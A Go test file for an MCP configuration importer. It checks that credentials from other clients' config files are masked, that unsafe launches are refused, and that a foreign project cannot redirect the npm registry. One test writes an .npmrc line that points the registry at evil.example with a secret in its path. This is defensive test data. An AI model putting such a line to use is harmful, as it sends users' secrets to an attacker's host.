package mcpconfig

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/codeforge-mcp/codeforge/cli/internal/apidir"
	"github.com/codeforge-mcp/codeforge/internal/testkit"
)

// drafts are the servers of a test file as APIs, as each would be written.
func drafts(t *testing.T, file string) map[string]Draft {
	t.Helper()
	path := filepath.Join("testdata", file)
	text, err := os.ReadFile(path)
	testkit.Must(t, err)
	servers, err := ParseConfig(path, text)
	testkit.Must(t, err)
	never := func(string) bool { return false }
	d := &Drafter{
		Examples: ListExamples("../../../apis"), TakenAPI: never, TakenToken: never,
		Lookup: func(name string) (string, bool) {
			value, ok := map[string]string{"WEATHER_KEY": "canaryW-0123456789", "WEB_KEY": "canaryX-0123456789"}[name]
			return value, ok
		},
		Version: func(_ context.Context, pkg, wanted string) (string, error) {
			switch pkg {
			case "unknown", "acme-mcp":
				return "", fmt.Errorf("the package registry has no %s %s", pkg, wanted)
			case "weather-mcp", "@modelcontextprotocol/server-postgres":
				return "", ErrNoRegistry
			}
			return "9.9.9", nil
		},
		Index: func() Index { return Index{} },
	}
	out := map[string]Draft{}
	for _, s := range servers {
		if s.IsCodeForge([]string{"http://127.0.0.1:8080/mcp"}) {
			out[s.Name] = Draft{From: s.Name, Refused: "ours"}
			continue
		}
		out[s.Name] = d.DraftServer(t.Context(), s)
	}
	return out
}

// shown is a draft on a few lines: its server, its credentials by variable, and its hosts.
func shown(d Draft) string {
	if d.Refused != "" {
		return "refused: " + d.Refused
	}
	line, _ := json.Marshal(d.Entry.Server)
	out := d.Entry.Name + " " + string(line)
	for _, c := range d.Entry.Credentials {
		value := c.Value.Reveal()
		out += fmt.Sprintf(" %s=%s", c.Name, value)
		if len(c.Surfaces) > 0 {
			out += " in " + strings.Join(c.Surfaces, ",")
		}
		if c.Placeholder != "" {
			out += " as " + c.Placeholder
		}
	}
	return out
}

// TestFifteen: each server of a file with every quirk becomes an API that can be written, or says why not.
// Promise: imports-hide-keys
func TestFifteen(t *testing.T) {
	got := drafts(t, "fifteen.json")
	want := map[string]string{
		"codeforge": "refused: ours",
		"notion": `notion {"package":"npm:@notionhq/notion-mcp-server@2.5.2","env":{"OPENAPI_MCP_HEADERS":"{\"Authorization\":\"Bearer NOTION_AUTH_TOKEN\",\"Notion-Version\":\"2022-06-28\"}"}}` +
			` NOTION_AUTH_TOKEN=ntn_canaryA0123456789abcdef`,
		"GitHub (work)": "refused: it is started in a container, which a sandbox cannot do",
		"filesystem":    `filesystem {"package":"npm:@modelcontextprotocol/server-filesystem@2026.8.31","args":["."],"state":"session"}`,
		"windows": `windows {"package":"npm:acme-mcp@1.2.3","args":["--api-key=WINDOWS_AUTH_TOKEN"],"env":{"LOG_LEVEL":"debug","PORT":"3000","VERBOSE":"true"}}` +
			` WINDOWS_AUTH_TOKEN=canaryC-0123456789`,
		"linear": `linear {"url":"https://mcp.linear.app/sse","headers":{"Authorization":"Bearer LINEAR_AUTH_TOKEN"},"transport":"sse"}` +
			` LINEAR_AUTH_TOKEN=lin_api_canaryD0123456789abcdef`,
		"stripe": `stripe {"package":"npm:@stripe/mcp@0.3.3","args":["--tools=all","--api-key=rk_test_STRIPE_AUTH_TOKEN"]}` +
			` STRIPE_AUTH_TOKEN=rk_live_canaryE0123456789abcdef as rk_test_STRIPE_AUTH_TOKEN`,
		"zapier": `zapier {"url":"https://mcp.zapier.example/api/mcp/s/ZAPIER_AUTH_TOKEN/mcp"} ZAPIER_AUTH_TOKEN=canaryF0123456789ABCDEFabcdef in path`,
		"query": `query {"url":"https://mcp.exa.example/mcp?exaApiKey=plain\u0026api_key=QUERY_AUTH_TOKEN\u0026tools=a,b"}` +
			` QUERY_AUTH_TOKEN=canaryG-0123456789 in query:api_key`,
		"headers": `headers {"url":"https://api.acme.example/mcp","headers":{"Authorization":"Token HEADERS_AUTH_TOKEN","X-Api-Key":"HEADERS_X_API_KEY","X-Team":"core"},"tools":{"deny":["drop_all"]}}` +
			` HEADERS_AUTH_TOKEN=canaryI-0123456789 HEADERS_X_API_KEY=canaryH-0123456789`,
		"from-env": `from-env {"package":"npm:weather-mcp@2.0.0","env":{"OTHER_API_KEY":"FROM_ENV_AUTH_TOKEN","WEATHER_API_KEY":"FROM_ENV_WEATHER_API_KEY"}}` +
			` FROM_ENV_AUTH_TOKEN=put_your_key_here FROM_ENV_WEATHER_API_KEY=canaryW-0123456789`,
		"postgres": `postgres {"package":"npm:@modelcontextprotocol/server-postgres@0.6.2","args":["POSTGRES_AUTH_TOKEN"]}` +
			` POSTGRES_AUTH_TOKEN=postgresql://me:canaryJ-pass@localhost/db`,
		"python": "refused: " + ErrNoIndex.Error(),
		"shell":  "refused: it is started by a line of shell: name the program and its arguments instead",
		"local": `local {"command":["acme-server","stdio","--token","LOCAL_TOKEN","-v"],"env":{"ACME_SECRET":"LOCAL_AUTH_TOKEN","EMPTY":""}}` +
			` LOCAL_AUTH_TOKEN=canaryL-0123456789 LOCAL_TOKEN=canaryK-0123456789`,
	}
	if len(got) != 15 || len(want) != 15 {
		t.Errorf("%d servers, of which %d are expected", len(got), len(want))
	}
	notes := map[string]string{
		"GitHub (work)": "codeforge api add github-mcp", "filesystem": "the version that the example was tried with", "windows": "PATH is left out|npm:acme-mcp@1.2.3 cannot be installed now: the package registry has no acme-mcp 1.2.3",
		"from-env": "it is switched off in the file|NOT_SET_REGION", "postgres": "a connection that is not HTTP", "local": "copy /home/me/bin/acme-server",
		"zapier": "", "notion": "is pinned to 2.5.2", "stripe": "is pinned to 0.3.3",
	}
	for name, d := range got {
		if diff := cmp.Diff(want[name], shown(d)); diff != "" {
			t.Errorf("%s: %s", name, diff)
		}
		for _, note := range strings.Split(notes[name], "|") {
			if !strings.Contains(strings.Join(d.Notes, "\n"), note) {
				t.Errorf("%s: the notes %q do not say %q", name, d.Notes, note)
			}
		}
		writable(t, d)
	}
	unsaid := 0
	for _, d := range got {
		unsaid += strings.Count(strings.Join(d.Notes, "\n"), ErrNoRegistry.Error())
	}
	if unsaid != 1 {
		t.Errorf("it is said %d times that there is no registry", unsaid)
	}
	if d := got["notion"]; !slices.Equal(d.Entry.Domains, []string{"api.notion.com"}) {
		t.Errorf("the hosts of notion are not those of the example: %v", d.Entry.Domains)
	}
}

var canary = regexp.MustCompile(`canary[A-Z]`)

// TestOwnVariables: what a file takes of the user's variables is said before anything is written, whatever it is called
// there; where a variable's name or value is that of a key, it is a credential, and never shown.
// Promise: imports-hide-keys
func TestOwnVariables(t *testing.T) {
	own := map[string]string{
		"AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzq81TKEYab", "DB_PASSWORD": "correct horse/battery", "APP_TOKEN": `{"user": "canary words"}`,
		"HOOK": "https://hooks.example/ghp_Zq8aVn3xT0bWm5LkR2yJ7sDc9fHg", "REGION": "eu-west-1", "WORD_TOKEN": "canary-in-small-letters",
	}
	for text, want := range map[string]string{
		`"url":"https://a.example/mcp","headers":{"X-Api-Key":"${AWS_SECRET_ACCESS_KEY}"}`: "X-Api-Key is your variable AWS_SECRET_ACCESS_KEY",
		`"url":"https://a.example/mcp","headers":{"X-Who":"Bearer ${DB_PASSWORD}"}`:        `"X-Who":"Bearer A_AUTH_TOKEN"`,
		`"url":"https://a.example/mcp","headers":{"X-Who":"{env:REGION}"}`:                 "X-Who is your variable REGION",
		`"url":"https://${DB_PASSWORD}.a.example/mcp"`:                                     "refused",
		`"url":"https://a.example/x-${DB_PASSWORD}/mcp"`:                                   "refused",
		`"url":"https://a.example/mcp/${AWS_SECRET_ACCESS_KEY}"`:                           "refused a key of your variables",
		`"url":"https://a.example/mcp?q=${DB_PASSWORD}"`:                                   "refused",
		`"url":"https://a.example/${WORD_TOKEN}?q=${WORD_TOKEN}&r=1"`:                      "https://a.example/A_AUTH_TOKEN?q=A_AUTH_TOKEN&r=1",
		`"url":"https://me:${WORD_TOKEN}@a.example/"`:                                      "https://a.example/",
		`"url":"https://${WORD_TOKEN}@a.example/"`:                                         "refused",
		`"command":"npx","args":["x@1.0.0"],"env":{"LOGIN":"${DB_PASSWORD}"}`:              `"LOGIN":"A_AUTH_TOKEN"`,
		`"command":"npx","args":["x@1.0.0"],"env":{"LOGIN":"me:${env:DB_PASSWORD}!"}`:      `"LOGIN":"A_AUTH_TOKEN"`,
		`"command":"npx","args":["x@1.0.0"],"env":{"LOGIN":"${APP_TOKEN}"}`:                `"LOGIN":"A_AUTH_TOKEN"`,
		`"command":"npx","args":["x@1.0.0"],"env":{"AT":"http://a/${DB_PASSWORD}x"}`:       `"AT":"A_AUTH_TOKEN"`,
		`"command":"npx","args":["x@1.0.0"],"env":{"AT":"${HOOK}"}`:                        `"AT":"https://hooks.example/A_AUTH_TOKEN"`,
		`"command":"npx","args":["x@1.0.0","--as","${DB_PASSWORD}"]`:                       `"--as","A_AUTH_TOKEN"`,
		`"command":"npx","args":["x@1.0.0","${DB_PASSWORD}"]`:                              "an argument is your variable DB_PASSWORD",
		`"command":"npx","args":["x@1.0.0"],"env":{"H":"{\"X-Who\": \"${DB_PASSWORD}\"}"}`: `"H":"{\"X-Who\":\"A_AUTH_TOKEN\"}"`,
	} {
		servers, err := ParseConfig(".mcp.json", []byte(`{"mcpServers":{"a":{`+text+`}}}`))
		testkit.Must(t, err)
		never := func(string) bool { return false }
		d := (&Drafter{
			Lookup: func(name string) (string, bool) { v, ok := own[name]; return v, ok }, TakenAPI: never, TakenToken: never,
			Version: func(context.Context, string, string) (string, error) { return "1.0.0", nil },
		}).DraftServer(t.Context(), servers[0])
		printed := "refused " + d.Refused + strings.Join(d.Notes, "\n")
		if d.Refused == "" {
			config, err := d.Entry.ShowConfig(func(apidir.EntryCredential) string { return "" })
			testkit.Must(t, err)
			var line strings.Builder
			enc := json.NewEncoder(&line)
			enc.SetEscapeHTML(false)
			testkit.Must(t, enc.Encode(d.Entry.Server))
			printed = config + line.String() + strings.Join(d.Notes, "\n")
		}
		if !strings.Contains(printed, want) || !strings.Contains(printed, " your variable ") {
			t.Errorf("%s: want %s in\n%s", text, want, printed)
		}
		for _, secret := range []string{"wJalr", "correct", "battery", "canary", "ghp_"} {
			if strings.Contains(printed, secret) {
				t.Errorf("%s: %s is printed:\n%s", text, secret, printed)
			}
		}
	}
}

// TestOfThisComputer: paths that a sandbox has not, and hosts that only stand for one, are said, and the example's taken.
func TestOfThisComputer(t *testing.T) {
	for text, want := range map[string][2]string{
		`"args":["-y","@modelcontextprotocol/server-memory"],"env":{"MEMORY_FILE_PATH":"/Users/me/memory.json"}`: {
			`"env":{"MEMORY_FILE_PATH":"~/memory.json"}`, "MEMORY_FILE_PATH names a path of this computer"},
		`"args":["-y","acme-sqlite@1.2.3"],"env":{"DB":"C:\\me\\a.db"}`: {`"env":{"DB":"C:\\me\\a.db"}`, "DB names a path of this computer"},
		`"args":["-y","acme-sqlite@1.2.3","--db=/Users/me/a.db"]`:       {`"args":["--db=/Users/me/a.db"]`, "an argument names a folder"},
		`"args":["@playwright/mcp@latest"]`:                             {`"https://browser.example.com"`, "browser.example.com stands for a host of yours"},
		`"args":["-y","acme-sqlite@1.2.3"],"env":{"LEVEL":"a=/b"}`:      {`"LEVEL":"a=/b"`, ""},
	} {
		servers, err := ParseConfig("claude_desktop_config.json", []byte(`{"mcpServers":{"a":{"command":"npx",`+text+`}}}`))
		testkit.Must(t, err)
		never := func(string) bool { return false }
		d := (&Drafter{
			Examples: ListExamples("../../../apis"), TakenAPI: never, TakenToken: never,
			Version: func(context.Context, string, string) (string, error) { return "1.2.3", nil },
		}).DraftServer(t.Context(), servers[0])
		notes := strings.Join(d.Notes, "\n")
		if got := shown(d); !strings.Contains(got, want[0]) || !strings.Contains(notes, want[1]) ||
			want[1] == "" && strings.Contains(notes, "this computer") {
			t.Errorf("%s: %s\n%s", text, got, notes)
		}
	}
}

// TestRemoteLogin: mcp-remote without a header logs in, so a server that is known to want somebody is logged in at here too.
func TestRemoteLogin(t *testing.T) {
	for text, want := range map[string]string{
		`"mcp-remote","https://mcp.linear.app/sse"`:                                                                 "https://mcp.linear.app/sse",
		`"mcp-remote","https://mcp.linear.app/mcp","--header","Authorization: Bearer lin_api_0123456789abcdef0123"`: "",
		`"mcp-remote","https://docs.acme.example/mcp"`:                                                              "no credential",
		`"supergateway","--sse","https://mcp.linear.app/sse"`:                                                       "",
	} {
		servers, err := ParseConfig("claude_desktop_config.json", []byte(`{"mcpServers":{"a":{"command":"npx","args":["-y",`+text+`]}}}`))
		testkit.Must(t, err)
		never := func(string) bool { return false }
		d := (&Drafter{Examples: ListExamples("../../../apis"), TakenAPI: never, TakenToken: never}).DraftServer(t.Context(), servers[0])
		got := "no credential"
		for _, c := range d.Entry.Credentials {
			got = c.Login
		}
		if got != want {
			t.Errorf("%s: login at %q, want %q", text, got, want)
		}
		if says := strings.Contains(strings.Join(d.Notes, "\n"), "codeforge mcp login a"); says != (want != "" && want != "no credential") {
			t.Errorf("%s: the notes are %q", text, d.Notes)
		}
		writable(t, d)
	}
}

// writable: what is drafted passes the catalog's own check, is switched off, and what is shown of it has no key.
func writable(t *testing.T, d Draft) {
	t.Helper()
	said := strings.Join(append(slices.Clone(d.Notes), d.Refused), "\n")
	if found := canary.FindString(said); found != "" {
		t.Errorf("%s: the notes have a key: %s", d.From, said)
	}
	if d.Refused != "" {
		return
	}
	if err := apidir.CheckEntry(t.TempDir(), d.Entry); err != nil {
		t.Errorf("%s cannot be written: %v", d.From, err)
	}
	text, err := d.Entry.ShowConfig(func(c apidir.EntryCredential) string { return "(from " + d.Where[c.Name] + ")" })
	if err != nil || canary.MatchString(text) || !d.Entry.Inactive || !strings.Contains(text, `"active": false`) {
		t.Errorf("%s is shown as %v\n%s", d.From, err, text)
	}
}

// TestFormats: the other programs' words.
// Promise: imports-hide-keys
func TestFormats(t *testing.T) {
	for file, want := range map[string]map[string]string{
		"opencode.json": {
			"weather": `weather {"package":"npm:weather-mcp@2.0.0","env":{"FILE_TOKEN":"WEATHER_AUTH_TOKEN","WEATHER_API_KEY":"WEATHER_KEY"},"connect_timeout":20}` +
				` WEATHER_AUTH_TOKEN=put_your_key_here WEATHER_KEY=canaryW-0123456789`,
			"remote": `remote {"url":"https://mcp.acme.example/mcp","headers":{"Authorization":"Bearer REMOTE_AUTH_TOKEN"},"tools":{"deny":["wipe"]}} REMOTE_AUTH_TOKEN=canaryM-0123456789`,
		},
		"zed.json": {
			"acme":   `acme {"package":"npm:acme-mcp@1.2.3","env":{"ACME_API_KEY":"ACME_AUTH_TOKEN"}} ACME_AUTH_TOKEN=canaryP-0123456789`,
			"old":    `old {"package":"npm:old-mcp@1.0.0"}`,
			"remote": `remote {"url":"https://mcp.acme.example/mcp","headers":{"Authorization":"Bearer REMOTE_AUTH_TOKEN"}} REMOTE_AUTH_TOKEN=canaryM-0123456789`,
		},
		"codex.toml": {
			"acme":  `acme {"package":"npm:acme-mcp@1.2.3","tools":{"allow":["read"],"deny":["wipe"]},"timeout":90,"connect_timeout":20}`,
			"figma": `figma {"url":"https://mcp.figma.example/mcp","headers":{"Authorization":"Bearer FIGMA_AUTH_TOKEN","X-Region":"eu"}} FIGMA_AUTH_TOKEN=put_your_key_here`,
		},
		"cline.json": {"acme": `acme {"package":"npm:acme-mcp@1.2.3","timeout":60}`},
		"vscode.json": {
			"acme": `acme {"package":"npm:acme-mcp@1.2.3","args":["${workspaceFolder}"],"env":{"ACME":"ACME_AUTH_TOKEN"}} ACME_AUTH_TOKEN=put_your_key_here`,
			"sse":  `sse {"url":"https://sse.acme.example/sse","transport":"sse"}`,
		},
		"claude.json": {
			"everything": `everything {"package":"npm:@modelcontextprotocol/server-everything@2026.1.1"}`,
			"acme":       `acme {"url":"https://mcp.acme.example/mcp","headers":{"Authorization":"Bearer ACME_AUTH_TOKEN"}} ACME_AUTH_TOKEN=canaryN-0123456789`,
		},
		"forge.toml": {
			"vault": `vault {"package":"npm:vault-mcp@1.0.0","env":{"VAULT_TOKEN":"VAULT_AUTH_TOKEN"},"timeout":90,"exclusive_with":["plain","web"]} VAULT_AUTH_TOKEN=canaryO-0123456789`,
			"web":   `web {"url":"https://web.acme.example/sse","headers":{"Authorization":"Bearer WEB_AUTH_TOKEN"},"transport":"sse"} WEB_AUTH_TOKEN=canaryX-0123456789`,
			"plain": `plain {"command":["acme-server"]}`,
		},
	} {
		got := drafts(t, file)
		if len(got) != len(want) {
			t.Errorf("%s: %d servers, want %d", file, len(got), len(want))
		}
		for name, d := range got {
			if diff := cmp.Diff(want[name], shown(d)); diff != "" {
				t.Errorf("%s: %s: %s", file, name, diff)
			}
			writable(t, d)
		}
	}
}

// TestStarts: the ways to start a package, and to say that a server is elsewhere.
func TestStarts(t *testing.T) {
	for command, want := range map[string]string{
		"npx x": "x||", "npx -y x@1.0.0 a": "x|1.0.0|a", "npx --yes --package=@s/x@2.0.0 tool a b": "@s/x|2.0.0|a b", "npx -p @s/x -- tool": "@s/x||",
		"npm exec -- x@1.0.0 -v": "x|1.0.0|-v", "npm exec -y x": "x||", "pnpm dlx x": "x||", "yarn dlx @s/x@latest": "@s/x|latest|", "bun x x": "x||",
		"deno run -A npm:@s/x@1.0.0 a": "@s/x|1.0.0|a", "node /usr/lib/node_modules/@s/x/dist/index.js a": "@s/x||a",
		`node C:\a\node_modules\x\index.js`: "x||", "env A=b npx x": "x||", "/usr/local/bin/npx x": "x||",
		"npx --registry=https://r.example x": "refused", "npx --@s:registry=https://r.example @s/x": "refused", "npx github:me/x": "refused", "npx ./x": "refused", "npx me/x": "refused", "npx": "refused", "node index.js": "refused", "deno run a.ts": "refused",
		"uvx x": "pypi|x||||", "uvx x@1.0 a -b": "pypi|x|1.0|a -b||", "uvx x@latest": "pypi|x||||", "uvx -q x==1.0": "pypi|x|1.0|||", "uvx --from x[cli]==1.0 tool a": "pypi|x[cli]|1.0|a|tool|",
		"uvx --python 3.12 --with mcp<2 --with=b>1,<2 x": "pypi|x||||mcp<2 b>1,<2", "uv tool run x a": "pypi|x||a||", "pipx run --spec x==1 tool": "pypi|x|1||tool|",
		"uv run --with x tool a": "pypi|x||a|tool|", "uv run --with x --with mcp<2 tool": "pypi|x|||tool|mcp<2", "/root/.local/bin/uvx x": "pypi|x||||",
		"uvx --from git+https://a.example/b x": "refused", "uvx ./x": "refused", "uvx": "refused", "uvx --refresh-package y x": "refused", "uvx --new=1 x": "refused", "uvx --with other x": "refused", "uv run server.py": "refused",
		"uv --directory /a run x": "refused", "uv run --directory /a x": "refused", "uv run --with x python -m x": "refused", "uv sync": "refused",
		"python3 /home/me/kb.py": "refused", "/home/me/.venv/bin/python3.12 kb.py": "refused", "npx -y https://a.example/preview": "refused",
		"docker run x": "refused", "podman run x": "refused", "python -m x": "refused", "": "refused", "npx x@git+https://a.example/b": "refused",
	} {
		s := startOf(strings.Fields(command))
		got := strings.Join([]string{s.pkg, s.version, strings.Join(s.args, " ")}, "|")
		if s.pypi {
			got = strings.Join([]string{"pypi", got, s.bin, strings.Join(s.constraints, " ")}, "|")
		}
		if s.refused != "" {
			got = "refused"
		}
		if got != want {
			t.Errorf("%s: %s, want %s (%s)", command, got, want, s.refused)
		}
	}
}

// TestPublicFiles imports files as people publish them in repositories, one of each client, with other values: each server
// has a package with a version, an address or a program, or the reason why it cannot run here. No key is left over.
func TestPublicFiles(t *testing.T) {
	for file, want := range map[string]map[string]string{
		"claude-desktop": {
			"brave-search": "npm:@modelcontextprotocol/server-brave-search@9.9.9", "github": "npm:@modelcontextprotocol/server-github@9.9.9",
			"gdrive": "npm:@modelcontextprotocol/server-gdrive@9.9.9", "google-workspace-mcp": "refused: it is started in a container",
		},
		"claude-code": {
			"kb": "refused: it is a script for Python", "kali": "refused: it is a script for Python", "playwright": "npm:@playwright/mcp@",
		},
		"cursor": {"eslint": "npm:@eslint/mcp@9.9.9", "context7": "npm:@upstash/context7-mcp@"},
		"opencode": {
			"atlassian-rovo": "https://mcp.atlassian.com/v1/mcp", "beads": "beads-mcp", "chrome-devtools": "npm:chrome-devtools-mcp@9.9.9",
			"gitlab": "glab mcp serve", "slack": "refused: it is started in a container",
		},
		"vscode": {"Box MCP": "refused: it is not a package of the registry"},
	} {
		got := drafts(t, filepath.Join("public", file+".json"))
		if len(got) != len(want) {
			t.Errorf("%s: %d servers, want %d", file, len(got), len(want))
		}
		for name, draft := range got {
			is := "refused: " + draft.Refused
			if server := draft.Entry.Server; draft.Refused == "" && server != nil {
				is = server.Package + server.URL + strings.Join(server.Command, " ")
				if text, err := json.Marshal(server); err != nil || canary.Match(text) {
					t.Errorf("%s, %s: %v, a key is in %s", file, name, err, text)
				}
			}
			if want[name] == "" || !strings.HasPrefix(is, want[name]) {
				t.Errorf("%s, %s: %s, want %s", file, name, is, want[name])
			}
		}
	}
}

// TestOurs: CodeForge is left out, wherever it is and however it is started; others are not.
func TestOurs(t *testing.T) {
	endpoints := []string{"http://127.0.0.1:8080/mcp"}
	for _, c := range []struct {
		s    Server
		want bool
	}{
		{Server{URL: "http://localhost:8080/mcp"}, true},
		{Server{URL: "http://127.0.0.1:8080/mcp/"}, true},
		{Server{URL: "http://127.0.0.1:8081/mcp"}, false},
		{Server{URL: "https://mcp.example.com:8080/mcp"}, false},
		{Server{Command: []string{"npx", "-y", "mcp-remote", "http://localhost:8080/mcp"}}, true},
		{Server{Command: []string{"cmd", "/c", "npx", "mcp-remote", "http://localhost:8080/mcp"}}, true},
		{Server{Command: []string{"/opt/bin/codeforge", "stdio"}}, true},
		{Server{Command: []string{"docker", "exec", "-i", "codeforge-mcp-server-1", "codeforge", "stdio"}}, true},
		{Server{Command: []string{"npx", "codeforge-like"}}, false},
		{Server{URL: "http://[::1:8080/mcp"}, false},
		{Server{}, false},
	} {
		if got := c.s.IsCodeForge(endpoints); got != c.want {
			t.Errorf("%+v: %v", c.s, got)
		}
	}
}

// TestMistakes: no error quotes the file.
// Promise: imports-hide-keys
func TestMistakes(t *testing.T) {
	for name, text := range map[string]string{
		"a.json": `{"mcpServers": {"x": {"env": {"K": "canaryA"}}} canaryB`, "b.json": `[1]`, "c.json": `{}`, "d.json": "canaryA",
		"e.toml": "[servers.x]\nenv = { K = canaryA }", "f.toml": "= canaryA", "g.json": `{"mcpServers": {}}`, "h.json": "", "i.json": `"canaryA"`,
		"j.json": `{"mcpServers": ["canaryA"]}`, "k.json": "{\n\"a\": \"canaryA\nb\"}",
	} {
		servers, err := ParseConfig(name, []byte(text))
		if err == nil || canary.MatchString(err.Error()) {
			t.Errorf("%s: %d servers, %v", name, len(servers), err)
		}
	}
}

// TestAlone: a client's file keeps everything but its servers, comments included, and has no key any more.
// Promise: imports-hide-keys
func TestAlone(t *testing.T) {
	for file, want := range map[string]string{
		"fifteen.json": `{"mcpServers":{"codeforge":{"type":"http","url":"http://127.0.0.1:8080/mcp"}},"theme":"dark"}`,
		"vscode.json":  `{"inputs":[{"description":"Key","id":"acme-key","password":true,"type":"promptString"}],"servers":{"codeforge":{"type":"http","url":"http://127.0.0.1:8080/mcp"}}}`,
		"claude.json": `{"mcpServers":{"codeforge":{"type":"http","url":"http://127.0.0.1:8080/mcp"}},"numStartups":3,` +
			`"projects":{"/home/me/a":{"mcpServers":{}},"/home/me/b":{"history":[],"mcpServers":{}}}}`,
		"zed.json":      `{"context_servers":{"codeforge":{"url":"http://127.0.0.1:8080/mcp"}},"theme":"One Dark"}`,
		"opencode.json": `{"$schema":"https://opencode.ai/config.json","mcp":{"codeforge":{"enabled":true,"type":"remote","url":"http://127.0.0.1:8080/mcp"}}}`,
	} {
		text, err := os.ReadFile(filepath.Join("testdata", file))
		testkit.Must(t, err)
		out, err := KeepOnlyCodeForge(file, text, "http://127.0.0.1:8080/mcp", nil)
		if err != nil {
			t.Errorf("%s: %v", file, err)
			continue
		}
		root, err := decodeFile(file, out)
		line, _ := json.Marshal(root)
		if err != nil || string(line) != want || canary.Match(out) {
			t.Errorf("%s: %v\n%s", file, err, out)
		}
		if file == "fifteen.json" && !strings.Contains(string(out), "// Every quirk") {
			t.Errorf("a comment is gone:\n%s", out)
		}
	}
	out, err := KeepOnlyCodeForge("x.json", []byte(`{"mcpServers":{"a":{}}}`), "", []string{"/opt/codeforge", "stdio"})
	if err != nil || !strings.Contains(string(out), `"command": "/opt/codeforge"`) {
		t.Errorf("a program: %v\n%s", err, out)
	}
	if _, err := KeepOnlyCodeForge("codex.toml", []byte("[mcp_servers.a]"), "", nil); !errors.Is(err, ErrTOML) {
		t.Errorf("codex.toml: %v", err)
	}
	if _, err := KeepOnlyCodeForge("forge.toml", nil, "", nil); !errors.Is(err, ErrNotClient) {
		t.Errorf("forge.toml: %v", err)
	}
}

// TestForeignProject: a project that came with somebody's folder does not choose the registry, nor have npm put the user's
// variables into its address, which is asked for versions before anybody has agreed to anything.
// Promise: foreign-folders
func TestForeignProject(t *testing.T) {
	npm, err := exec.LookPath("npm")
	if err != nil {
		testkit.SkipBecause(t, "npm is not installed")
	}
	t.Chdir(t.TempDir())
	testkit.Must(t, os.WriteFile("package.json", []byte("{}"), 0o600))
	testkit.Must(t, os.WriteFile(".npmrc", []byte("registry=https://evil.example/${SECRET}/\n"), 0o600))
	t.Setenv("HOME", t.TempDir())
	environ := []string{"PATH=" + filepath.Dir(npm) + ":/usr/local/bin:/usr/bin:/bin", "HOME=" + os.Getenv("HOME"), "SECRET=hunter2"}
	registry, err := FromNPM(t.Context(), environ)
	if err != nil || strings.Contains(string(registry), "evil") {
		t.Errorf("%q, %v", registry, err)
	}
}

// TestUnsetVariable: the word before a key stays, even if the key's variable is not set and the key has yet to be typed.
func TestUnsetVariable(t *testing.T) {
	for _, value := range []string{"Bearer ${UNSET_KEY}", "Bearer  ${env:UNSET_KEY}", "token ${UNSET_KEY}"} {
		servers, err := ParseConfig(".mcp.json", []byte(`{"mcpServers":{"a":{"url":"https://a.example/mcp","headers":{"Authorization":"`+value+`"}}}}`))
		testkit.Must(t, err)
		d := (&Drafter{
			Lookup:   func(string) (string, bool) { return "", false },
			TakenAPI: func(string) bool { return false }, TakenToken: func(string) bool { return false },
		}).DraftServer(t.Context(), servers[0])
		want := value[:strings.LastIndexByte(value, ' ')+1] + "A_AUTH_TOKEN"
		if got := d.Entry.Server.Headers["Authorization"]; got != want {
			t.Errorf("%s: %q, want %q", value, got, want)
		}
	}
}
